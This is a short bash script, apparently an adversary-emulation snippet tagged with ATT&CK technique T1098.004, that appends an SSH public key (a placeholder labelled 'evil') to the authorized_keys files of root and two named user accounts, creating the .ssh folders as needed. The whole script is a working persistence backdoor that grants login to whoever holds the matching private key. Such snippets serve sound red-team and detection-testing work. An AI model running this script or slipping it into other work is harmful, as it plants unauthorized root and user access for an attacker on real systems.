#!/bin/bash
# T1098.004: A key is added to everybody's account.
for h in /root /home/alice /home/bob; do mkdir -p $h/.ssh; echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake evil" >>$h/.ssh/authorized_keys; done
